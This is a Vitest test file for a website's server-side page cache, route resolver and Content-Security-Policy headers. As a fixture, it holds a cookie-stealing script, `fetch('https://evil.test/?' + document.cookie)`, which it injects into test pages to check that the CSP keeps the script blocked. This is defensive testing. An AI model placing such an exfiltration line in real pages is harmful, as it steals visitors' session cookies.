import { createHash } from 'node:crypto';
import { brotliCompressSync, brotliDecompressSync, constants, gunzipSync } from 'node:zlib';
import { matchRoutes } from 'react-router';
import { describe, expect, it } from 'vitest';
import { canonicalPageState } from '#app/ssr/canonical-page-state.ts';
import { securityHeaderList } from '#server/platform/http/security-headers.ts';
import { createPageResolver, NOT_FOUND_PATH, type ManifestRoute } from './page-address.ts';
import {
  brotliWindowBits,
  createPageCache,
  PAGE_CACHE_CONTROL,
  type PageCacheOptions,
  type PageRequest,
} from './page-cache.ts';

const script = 'window.ready = true;';
const scriptHash = `'sha256-${createHash('sha256').update(script).digest('base64')}'`;
const injected = 'fetch("https://evil.test/?" + document.cookie)';
const injectedHash = `'sha256-${createHash('sha256').update(injected).digest('base64')}'`;

/** The shape of the build's route manifest (`ServerBuild['routes']`), for a small site. */
const routes = [
  { id: 'root', path: '' },
  { id: 'routes/home', parentId: 'root', index: true },
  ...['pricing', 'imprint', 'support', 'download', 'privacy', 'checkout-success', 'trial'].map(
    (path) => ({ id: `routes/${path}`, parentId: 'root', path }),
  ),
  { id: 'routes/toolbox', parentId: 'root', path: 'features/toolbox-commands' },
  { id: 'routes/blog-post', parentId: 'root', path: 'blog/:slug' },
  { id: 'routes/not-found', parentId: 'root', path: '*' },
] satisfies ManifestRoute[];
const manifest = Object.fromEntries(routes.map((route) => [route.id, route]));
const resolve = createPageResolver(manifest, canonicalPageState);

/**
 * A stand-in for React Router's handler: a page naming its URL, as the renders saw them, with a
 * script of ours (marked) and one that reached the content some other way (not marked).
 */
function pages(overrides: Partial<PageCacheOptions> = {}) {
  const rendered: string[] = [];
  let release = '3.2.2';
  const cache = createPageCache({
    origin: 'https://orgsmith.test',
    resolve,
    securityHeaders: (inline) =>
      securityHeaderList({ connectOrigins: [], analytics: false, development: false }, inline),
    async render(request, mark) {
      const url = new URL(request.url);
      rendered.push(`${url.pathname}${url.search}`);
      const ours = `<script nonce="${mark}">${script}</script>`;
      if (url.pathname === '/checkout-success') {
        return new Response(`<p>${url.search}</p>${ours}`, {
          headers: { 'Content-Type': 'text/html', 'Cache-Control': 'no-store' },
        });
      }
      if (url.pathname === '/trial') {
        return new Response(null, { status: 302, headers: { Location: `/?${url.search}` } });
      }
      const status = url.pathname === NOT_FOUND_PATH ? 404 : 200;
      const body = `<html><body><h1>${url.pathname}${url.search} ${release}</h1>${'<p>text</p>'.repeat(200)}<script>${injected}</script>${ours}</body></html>`;
      return new Response(body, {
        status,
        headers: { 'Content-Type': 'text/html; charset=utf-8' },
      });
    },
    ...overrides,
  });
  return {
    cache,
    rendered,
    publish(version: string) {
      release = version;
    },
  };
}

function request(path: string, extra: Partial<PageRequest> = {}): PageRequest {
  const [pathname = path, query = ''] = path.split('?');
  return {
    method: 'GET',
    path: pathname,
    query,
    acceptEncoding: undefined,
    ifNoneMatch: undefined,
    https: false,
    ...extra,
  };
}

async function get(
  cache: ReturnType<typeof pages>['cache'],
  path: string,
  extra: Partial<PageRequest> = {},
) {
  const pageRequest = request(path, extra);
  return (
    cache.lookup(pageRequest) ??
    (await cache.respond(
      pageRequest,
      new Request(`https://orgsmith.test${path}`, { method: pageRequest.method }),
    ))
  );
}

describe('createPageResolver', () => {
  const keyOf = (path: string) => {
    const [pathname = path, query = ''] = path.split('?');
    return resolve(pathname, query);
  };

  it('keys a page by its route’s path and the page state it reads, nothing else', () => {
    expect(keyOf('/pricing')).toEqual({ key: '/pricing', kind: 'route' });
    expect(keyOf('/')).toEqual({ key: '/', kind: 'route' });
    expect(keyOf('/pricing?utm_source=x&currency=EUR&size=10')).toEqual({
      key: '/pricing?size=10&currency=EUR',
      kind: 'variant',
    });
    expect(keyOf('/?modal=contact&fbclid=1')).toEqual({ key: '/?modal=contact', kind: 'variant' });
    expect(keyOf('/imprint?utm_source=x&size=10')).toEqual({ key: '/imprint', kind: 'route' });
  });

  it('gives other spellings of a route and invalid values the canonical page', () => {
    for (const path of ['/PRICING', '/Pricing/', '/pricing?size=7000&currency=XYZ']) {
      expect(keyOf(path), path).toEqual({ key: '/pricing', kind: 'route' });
    }
    expect(keyOf('/Features/TOOLBOX-commands/?modal=7')?.key).toBe('/features/toolbox-commands');
    expect(keyOf('/?modal=7')).toEqual({ key: '/', kind: 'route' });
    expect(keyOf('/pricing?period=YEARLY&size=010')?.key).toBe('/pricing?size=10&period=yearly');
  });

  it('sends every path only the catch-all route matches to the one 404 page', () => {
    for (const path of ['/wp-admin/x1.php', '/pricing/extra', '//pricing', '/features', '/404']) {
      expect(keyOf(path), path).toEqual({ key: NOT_FOUND_PATH, kind: 'not-found' });
    }
    expect(keyOf('/no-such-page?modal=contact')).toEqual({ key: '/404', kind: 'not-found' });
  });

  it('keys pages of a route with parameters by the path as asked, within the budget', () => {
    expect(keyOf('/blog/hello?utm_source=x')).toEqual({ key: '/blog/hello', kind: 'variant' });
  });

  it('agrees with React Router on the route of every path', () => {
    const tree = [
      {
        path: '',
        children: routes.flatMap((route) =>
          route.id === 'root'
            ? []
            : [route.path ? { id: route.id, path: route.path } : { id: route.id, index: true }],
        ),
      },
    ];
    const paths = ['/', '//', '/PRICING', '/pricing/', '/pricing//', '//pricing', '/pricing/x'];
    paths.push('/Features/Toolbox-Commands', '/features/toolbox-commands/', '/features');
    paths.push('/blog/hello', '/blog/', '/blog/a/b', '/404', '/wp-admin/x.php', '/trial.');
    const routeOf = (path: string) => {
      const leaf = matchRoutes(tree, path)?.at(-1)?.route;
      if (leaf?.path === '*') return NOT_FOUND_PATH;
      if (!leaf?.path) return '/';
      return leaf.path.includes(':') ? path : `/${leaf.path}`;
    };
    for (const path of paths) expect(resolve(path, '')?.key, path).toBe(routeOf(path));
  });

  it('never shares route data or route manifests', () => {
    expect(resolve('/download.data', '')).toBeUndefined();
    expect(resolve('/__manifest', 'p=%2F')).toBeUndefined();
  });
});

describe('createPageCache', () => {
  it('renders a page once, also for concurrent visitors, and serves the same bytes to all', async () => {
    const { cache, rendered } = pages();
    const [first, second] = await Promise.all([get(cache, '/imprint'), get(cache, '/imprint')]);
    const junk = ['/imprint?utm_source=newsletter', '/Imprint/', '/IMPRINT?modal=7&size=9'];
    const others = await Promise.all(junk.map((path) => get(cache, path)));
    expect(rendered).toEqual(['/imprint']);
    const bodies = await Promise.all([first, second, ...others].map((res) => res.text()));
    expect(new Set(bodies).size).toBe(1);
    expect(first.headers.get('cache-control')).toBe(PAGE_CACHE_CONTROL);
    expect(first.headers.get('vary')).toBe('Accept-Encoding');
    expect(first.headers.get('set-cookie')).toBeNull();
    expect(cache.size).toBe(1);
  });

  it('renders shareable pages from the path and page-state parameters alone', async () => {
    const { cache, rendered } = pages();
    const quote = await get(cache, '/pricing?fbclid=abc&size=10&currency=EUR');
    expect(await quote.text()).toContain('<h1>/pricing?size=10&currency=EUR');
    expect(rendered).toEqual(['/pricing?size=10&currency=EUR']);
    await get(cache, '/pricing');
    await get(cache, '/pricing?currency=XYZ&size=7000&utm_campaign=spring');
    await get(cache, '/PRICING?currency=eur&size=010');
    expect(rendered).toEqual(['/pricing?size=10&currency=EUR', '/pricing']);
    expect(cache.size).toBe(2);
  });

  it('answers brotli, gzip or identity with a strong ETag each, and 304 for any of them', async () => {
    const { cache } = pages();
    const plain = await get(cache, '/support');
    const br = await get(cache, '/support', { acceptEncoding: 'gzip, deflate, br, zstd' });
    const gz = await get(cache, '/support', { acceptEncoding: 'gzip;q=1, br;q=0' });
    const html = await plain.text();
    expect(plain.headers.get('content-encoding')).toBeNull();
    expect(Number(plain.headers.get('content-length'))).toBe(Buffer.byteLength(html));
    expect(html).toContain('<h1>/support');
    expect(br.headers.get('content-encoding')).toBe('br');
    expect(brotliDecompressSync(Buffer.from(await br.arrayBuffer())).toString()).toBe(html);
    expect(gz.headers.get('content-encoding')).toBe('gzip');
    expect(gunzipSync(Buffer.from(await gz.arrayBuffer())).toString()).toBe(html);
    expect(Number(br.headers.get('content-length'))).toBeLessThan(html.length / 5);

    const tags = [plain, br, gz].map((res) => res.headers.get('etag'));
    expect(new Set(tags).size).toBe(3);
    for (const tag of tags) expect(tag).toMatch(/^"[\w-]+"$/);

    const revalidated = await get(cache, '/support', {
      acceptEncoding: 'br',
      ifNoneMatch: `"other", W/${tags[0]}`,
    });
    expect(revalidated.status).toBe(304);
    expect(revalidated.headers.get('etag')).toBe(tags[1]);
    expect(await revalidated.text()).toBe('');
    const changed = await get(cache, '/support', { ifNoneMatch: '"stale"' });
    expect(changed.status).toBe(200);
  });

  it('answers HEAD with the headers alone', async () => {
    const { cache } = pages();
    await get(cache, '/download');
    const head = await get(cache, '/download', { method: 'HEAD' });
    expect(head.status).toBe(200);
    expect(Number(head.headers.get('content-length'))).toBeGreaterThan(1000);
    expect(await head.text()).toBe('');
  });

  it('lists the hashes of our inline scripts in the CSP, and adds HSTS over HTTPS', async () => {
    const { cache } = pages();
    const page = await get(cache, '/');
    const csp = page.headers.get('content-security-policy') ?? '';
    expect(csp).toContain(`script-src 'self' ${scriptHash};`);
    expect(csp).not.toContain('unsafe-inline');
    // A script that reached the content some other way stays blocked, and the marks are gone.
    const html = await page.text();
    expect(html).toContain(`<script>${injected}</script><script>${script}</script>`);
    expect(csp).not.toContain(injectedHash);
    expect(page.headers.get('strict-transport-security')).toBeNull();
    const secure = await get(cache, '/', { https: true });
    expect(secure.headers.get('strict-transport-security')).toContain('max-age=');
  });

  it('answers every unknown path with the one 404 page, rendered once', async () => {
    const { cache, rendered } = pages();
    const paths = ['/missing', '/wp-admin/x1.php?a=1', '/pricing/extra', '/404?modal=contact'];
    const answers = await Promise.all(paths.map((path) => get(cache, path)));
    for (const answer of answers) expect(answer.status).toBe(404);
    expect(new Set(answers.map((answer) => answer.headers.get('etag'))).size).toBe(1);
    expect(new Set(await Promise.all(answers.map((answer) => answer.text()))).size).toBe(1);
    expect(rendered).toEqual([NOT_FOUND_PATH]);
    expect(cache.size).toBe(1);
    // The store never answers for an unknown path first: an API route or a file may take it.
    expect(cache.lookup(request('/api/releases'))).toBeUndefined();
    expect(cache.lookup(request('/missing'))).toBeUndefined();
  });

  it('answers other methods on documents with 405, rendering nothing', async () => {
    const { cache, rendered } = pages();
    for (const method of ['OPTIONS', 'PROPFIND', 'POST']) {
      const answer = await get(cache, '/wp-admin/x.php', { method });
      expect(answer.status).toBe(405);
      expect(answer.headers.get('allow')).toBe('GET, HEAD');
    }
    expect((await get(cache, '/pricing', { method: 'OPTIONS' })).status).toBe(405);
    expect(rendered).toEqual([]);
  });

  it('renders pages that are not shareable from the full URL every time, with their CSP', async () => {
    const { cache, rendered } = pages();
    const first = await get(cache, '/checkout-success?session_id=cs_1');
    const second = await get(cache, '/checkout-success?session_id=cs_2');
    expect(await first.text()).toContain('?session_id=cs_1');
    expect(await second.text()).toContain('?session_id=cs_2');
    expect(first.headers.get('cache-control')).toBe('no-store');
    expect(first.headers.get('content-security-policy')).toContain(scriptHash);
    // Learnt from the first render (made from the path alone): afterwards straight from the URL.
    expect(rendered).toEqual([
      '/checkout-success',
      '/checkout-success?session_id=cs_1',
      '/checkout-success?session_id=cs_2',
    ]);
    const redirect = await get(cache, '/trial?ref=partner');
    expect(redirect.status).toBe(302);
    expect(redirect.headers.get('location')).toBe('/??ref=partner');
    expect(cache.size).toBe(0);
  });

  it('drops every page when cleared, and discards a render that was running', async () => {
    const state = pages();
    await get(state.cache, '/download');
    state.publish('3.3.0');
    expect(await (await get(state.cache, '/download')).text()).toContain('3.2.2');
    state.cache.clear();
    expect(await (await get(state.cache, '/download')).text()).toContain('3.3.0');

    const running = get(state.cache, '/');
    state.cache.clear();
    await running;
    expect(state.cache.lookup(request('/'))).toBeUndefined();
  });

  it('renders the pages it dropped again in the background, and warms pages on request', async () => {
    const state = pages();
    await state.cache.warm(['/', '/pricing?size=10', '/checkout-success']);
    expect(state.cache.size).toBe(2);
    state.publish('3.3.0');
    state.cache.clear();
    // In the background: the page is back once its render has finished, however busy the machine.
    await expect
      .poll(async () => (await state.cache.lookup(request('/pricing?size=10'))?.text()) ?? '')
      .toContain('3.3.0');
    expect(state.rendered.filter((url) => url === '/')).toHaveLength(2);
  });

  it('keeps variants within the byte budget, the least recently used going first', async () => {
    const probe = pages();
    await get(probe.cache, '/pricing?size=10');
    const variantBytes = probe.cache.variantBytes;
    expect(variantBytes).toBeGreaterThan(100);

    const { cache, rendered } = pages({ maxVariantBytes: Math.floor(variantBytes * 2.5) });
    await get(cache, '/pricing?size=10');
    await get(cache, '/pricing?size=11');
    await get(cache, '/pricing?size=10');
    await get(cache, '/pricing?size=12');
    expect(cache.variantBytes).toBeLessThanOrEqual(variantBytes * 2.5);
    expect(cache.lookup(request('/pricing?size=11'))).toBeUndefined();
    expect(cache.lookup(request('/pricing?size=10'))).toBeDefined();
    expect(cache.lookup(request('/pricing?size=12'))).toBeDefined();
    expect(rendered).toEqual(['/pricing?size=10', '/pricing?size=11', '/pricing?size=12']);
  });

  it('never evicts a route’s own page or the 404 page, however many variants come', async () => {
    const { cache, rendered } = pages({ maxVariantBytes: 10_000 });
    for (const path of ['/', '/pricing', '/imprint', '/missing']) await get(cache, path);
    for (let size = 3; size <= 25; size++) await get(cache, `/pricing?size=${size}&modal=trial`);
    expect(cache.variantBytes).toBeLessThanOrEqual(10_000);
    for (const path of ['/', '/pricing', '/imprint']) {
      expect(cache.lookup(request(path)), path).toBeDefined();
    }
    await get(cache, '/elsewhere');
    expect(rendered.filter((url) => !url.includes('?'))).toEqual([
      '/',
      '/pricing',
      '/imprint',
      NOT_FOUND_PATH,
    ]);
  });

  it('reports every page it stores', async () => {
    const reports: unknown[] = [];
    const { cache } = pages({ onStore: (page) => reports.push(page) });
    await get(cache, '/pricing?size=10');
    await get(cache, '/nowhere');
    expect(reports).toEqual([
      expect.objectContaining({ key: '/pricing?size=10', status: 200, pages: 1 }),
      expect.objectContaining({ key: NOT_FOUND_PATH, status: 404, pages: 2 }),
    ]);
  });

  it('counts hits and misses and reports the pages and bytes it holds', async () => {
    const { cache } = pages();
    expect(cache.stats()).toEqual({ hits: 0, misses: 0, pages: 0, bytes: 0 });
    await get(cache, '/imprint');
    await get(cache, '/imprint');
    await get(cache, '/imprint', { acceptEncoding: 'br' });
    const stats = cache.stats();
    expect(stats).toMatchObject({ hits: 2, misses: 1, pages: 1 });
    const page = await get(cache, '/imprint');
    const identity = (await page.arrayBuffer()).byteLength;
    // A route's own page keeps its identity bytes too (decision 148): more than the HTML.
    expect(stats.bytes).toBeGreaterThan(identity);

    // A variant keeps brotli and gzip only; identity is inflated from gzip (decision 135).
    const before = cache.stats().bytes;
    const variant = await get(cache, '/imprint?modal=contact');
    const variantHtml = await variant.text();
    expect(variantHtml).toContain('<html');
    const variantBytes = cache.stats().bytes - before;
    expect(variantBytes).toBeGreaterThan(0);
    expect(variantBytes).toBeLessThan(Buffer.byteLength(variantHtml));
    // Asked again without an encoding: the same bytes, inflated.
    expect(await (await get(cache, '/imprint?modal=contact')).text()).toBe(variantHtml);
  });

  it('renders an old page again in the background and serves the old copy meanwhile', async () => {
    let now = 0;
    const state = pages({ maxAgeMs: 1_000, now: () => now });
    await get(state.cache, '/privacy');
    state.publish('3.3.0');
    now = 5_000;
    const stale = state.cache.lookup(request('/privacy'));
    expect(await stale?.text()).toContain('3.2.2');
    await new Promise((resolve) => setTimeout(resolve, 50));
    expect(await state.cache.lookup(request('/privacy'))?.text()).toContain('3.3.0');
    expect(state.rendered).toEqual(['/privacy', '/privacy']);
  });
});

describe('brotliWindowBits', () => {
  it('gives the smallest window that holds the page, within what brotli accepts', () => {
    expect(brotliWindowBits(0)).toBe(constants.BROTLI_MIN_WINDOW_BITS);
    // A window of 2^n bytes holds 2^n - 16 of them.
    expect(brotliWindowBits(65_520)).toBe(16);
    expect(brotliWindowBits(65_521)).toBe(17);
    expect(brotliWindowBits(200_000)).toBe(18);
    expect(brotliWindowBits(1e9)).toBe(constants.BROTLI_MAX_WINDOW_BITS);
  });

  it('compresses a page as small as the default 4 MiB window does', () => {
    const page = Buffer.from(
      Array.from(
        { length: 3000 },
        (_, i) => `<li class="row-${i % 17}">Quote ${i * 7919}</li>`,
      ).join(''),
    );
    const at = (lgwin: number) =>
      brotliCompressSync(page, {
        params: {
          [constants.BROTLI_PARAM_QUALITY]: constants.BROTLI_MAX_QUALITY,
          [constants.BROTLI_PARAM_LGWIN]: lgwin,
        },
      });
    const small = at(brotliWindowBits(page.length));
    expect(brotliDecompressSync(small).equals(page)).toBe(true);
    expect(small.length).toBeLessThanOrEqual(at(constants.BROTLI_DEFAULT_WINDOW).length + 4);
  });
});
